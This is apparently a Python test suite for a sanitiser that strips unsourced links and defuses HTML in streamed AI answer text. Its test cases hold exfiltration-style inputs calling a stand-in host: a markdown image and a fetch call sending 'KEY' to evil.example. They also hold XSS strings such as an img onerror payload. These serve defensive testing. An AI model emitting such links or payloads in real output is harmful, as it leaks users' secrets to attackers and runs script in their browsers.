"""Inert: an answer's text loads, links and marks up nothing, however it streams."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from alir.steps.ask.text.inert import InertText, inert

SOURCES = ["The manual is at https://docs.example/manual, or www.docs.example."]
PIECES = st.sampled_from(
    [
        "https://",
        "http:",
        "//",
        "www.",
        "evil.example/?q=",
        "docs.example",
        "]",
        "(",
        ":",
        "[1]",
        "<",
        "img",
        "/a>",
        "h",
        "tt",
        "p",
        " ",
        "\n",
        "!",
        "ftp://x",
        "manual",
        "/",
        ".",
        "é",
        "x" * 300,
        "> - ",
    ]
)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![x](https://evil.example/?q=KEY)", "![x] ([link removed])"),
        ("[1](https://evil.example/)", "[1] ([link removed])"),
        ("[here](https://docs.example/manual).", "[here] (https://docs.example/manual)."),
        ("[x](javascript:alert(1))", "[x] (javascript:alert(1))"),
        ("[1]: https://docs.example/manual", "[1] : https://docs.example/manual"),
        ("Yes [1].\n> - [1]: data:text/html,x", "Yes [1].\n> - [1] : data:text/html,x"),
        ("<img src=x onerror=alert(1)>", "‹img src=x onerror=alert(1)>"),
        ("</script><!-- x --><?php", "‹/script>‹!-- x -->‹?php"),
        ("<https://docs.example/manual>", "‹https://docs.example/manual>"),
        ("Go to HTTPS://EVIL.example, now.", "Go to [link removed], now."),
        ("www.evil.example/a", "[link removed]"),
        ("ftp://evil.example", "[link removed]"),
        ("file://evil.example/KEY", "file:[link removed]"),
        ("fetch('//evil.example/KEY')", "fetch('[link removed]')"),
        ("「https://evil.example」です", "「[link removed]」です"),
        ("Read https://docs.example/manual.", "Read https://docs.example/manual."),
        ("Read https://docs.example/manual?q=KEY.", "Read [link removed]."),
    ],
)
def test_what_would_load_or_link_does_not(text: str, expected: str) -> None:
    assert inert(text, SOURCES) == expected


@pytest.mark.parametrize(
    "text",
    [
        "a < b, 3 <4",
        "It sleeps [1][2]. See [3]: nothing",
        "the show, http and ftp",
        "f[0]: g",
        "x = 1 // one, and/or a//b",
        "",
        "<",
    ],
)
def test_everything_else_stays_as_it_is(text: str) -> None:
    assert inert(text, SOURCES) == text


@given(st.lists(PIECES).map("".join), st.data())
def test_how_the_text_is_cut_makes_no_difference(text: str, data: st.DataObject) -> None:
    streamed, shown, position = InertText(SOURCES), "", 0
    while position < len(text):
        size = data.draw(st.integers(1, 5))
        shown += streamed.feed(text[position : position + size])
        position += size

    assert shown + streamed.settle() == inert(text, SOURCES)


@given(st.lists(PIECES).map("".join))
def test_no_address_is_shown_that_no_source_has(text: str) -> None:
    shown = inert(text, SOURCES)

    assert "](" not in shown
    assert "<img" not in shown
    assert "evil.example" not in shown or not any(
        f"{begin}evil.example" in shown for begin in ("https://", "www.", "http://", "ftp://")
    )


def test_a_label_is_looked_for_as_far_back_as_markdown_allows() -> None:
    assert inert(f"[{'x' * 998}]: b", SOURCES) == f"[{'x' * 998}] : b"
    assert inert(f"[{'x' * 1_200}]: b", SOURCES) == f"[{'x' * 1_200}]: b"
    assert inert(f"{'x' * 1_200}[a]: b", SOURCES) == f"{'x' * 1_200}[a]: b"


def test_another_text_is_made_inert_by_the_same_sources() -> None:
    text = InertText(SOURCES)
    text.feed("<")

    assert text.apart("https://docs.example/manual [x](y)") == (
        "https://docs.example/manual [x] (y)"
    )
    assert text.apart("www.evil.example") == "[link removed]"
    assert (text.removed, text.settle()) == (0, "<")


def test_what_is_left_out_is_counted() -> None:
    text = InertText(SOURCES)

    text.feed("https://evil.example www.evil.example https://docs.example/manual ")

    assert text.removed == 2
